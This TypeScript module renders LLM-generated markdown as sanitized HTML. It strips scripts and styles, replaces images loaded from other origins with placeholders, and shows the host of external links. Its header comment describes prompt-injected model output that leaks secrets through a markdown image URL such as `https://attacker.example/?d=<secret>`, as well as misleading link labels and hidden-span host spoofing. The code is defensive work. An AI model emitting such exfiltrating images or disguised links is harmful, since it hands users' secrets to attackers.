import DOMPurify from "dompurify";
import { marked } from "marked";

/**
 * Markdown to HTML for the page. The text is LLM output, so it may carry what an injected prompt
 * put there: marked renders it, DOMPurify keeps no script, event handler or `javascript:` URL,
 * and two hooks (this instance's own) deal with what could send data out or mislead a reader:
 *
 * - an image (any element loading a `src` or `poster`) from another origin is replaced by a
 *   placeholder naming its URL: fetching `![x](https://attacker.example/?d=<secret>)` would hand
 *   the secret to that host. The page's Content-Security-Policy (`img-src 'self' data:`, set by
 *   ingest-api) refuses such a request as well; this makes the refusal visible.
 * - a link to another origin opens in a new tab without a referrer, and its host is shown after
 *   its text, so that a link labelled "runbook" to attacker.example says attacker.example.
 *
 * Gone too: SVG and MathML, `<style>` (injected CSS could hide what the hooks add), `style`,
 * `srcset` and `background` attributes (more ways to load an image).
 */
const purify = DOMPurify(window);

const CONFIG = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: ["style"],
  FORBID_ATTR: ["style", "srcset", "background"],
};

/** Longest URL a placeholder shows; the whole URL is its title. */
const MAX_SHOWN_URL = 80;

/** The URL resolved against the page, or null when it does not parse. */
function resolve(url: string): URL | null {
  return URL.canParse(url, window.location.href) ? new URL(url, window.location.href) : null;
}

/** Whether loading `src` stays on the page's origin (a path, the origin itself, or `data:`). */
function staysHere(src: string): boolean {
  const url = resolve(src);
  return url !== null && (url.protocol === "data:" || url.origin === window.location.origin);
}

/** `[external image removed: <url>]` in place of an element loading from elsewhere. */
function placeholder(element: Element, src: string): HTMLElement {
  const kind = ["IMG", "INPUT"].includes(element.tagName) ? "image" : element.tagName.toLowerCase();
  const shown = src.length > MAX_SHOWN_URL ? `${src.slice(0, MAX_SHOWN_URL - 1)}…` : src;
  const span = element.ownerDocument.createElement("span");
  span.className = "external-removed";
  span.title = src;
  span.textContent = `[external ${kind} removed: ${shown}]`;
  return span;
}

/**
 * Marks a link to another origin and shows its host after it, unless the link is its URL as
 * plain text (a bare URL, autolinked): only a lone text node counts, as markup could hide part
 * of a text (`https://corp.example<span hidden>.attacker.example</span>`).
 */
function annotateLink(link: Element): void {
  const href = link.getAttribute("href") ?? "";
  const url = resolve(href);
  if (!url || !["http:", "https:"].includes(url.protocol)) return;
  if (url.origin === window.location.origin) return;
  link.setAttribute("target", "_blank");
  link.setAttribute("rel", "noopener noreferrer nofollow");
  link.setAttribute("title", url.href);
  const only = link.childNodes.length === 1 ? link.firstChild : null;
  if (only?.nodeType === Node.TEXT_NODE && only.textContent === href) return;
  const target = link.ownerDocument.createElement("span");
  target.className = "link-target";
  target.textContent = `(${url.host})`;
  // After the link, not in it: the host is read, not clicked.
  link.after(" ", target);
}

purify.addHook("afterSanitizeAttributes", (node) => {
  const external = [node.getAttribute("src"), node.getAttribute("poster")].find(
    (url) => url !== null && !staysHere(url),
  );
  if (external) {
    node.replaceWith(placeholder(node, external));
    return;
  }
  if (node.tagName === "A") annotateLink(node);
});

/** Markdown (GFM) as sanitized HTML with external images dropped and link targets shown. */
export function markdownToHtml(text: string): string {
  return purify.sanitize(marked.parse(text, { async: false, gfm: true }), CONFIG);
}
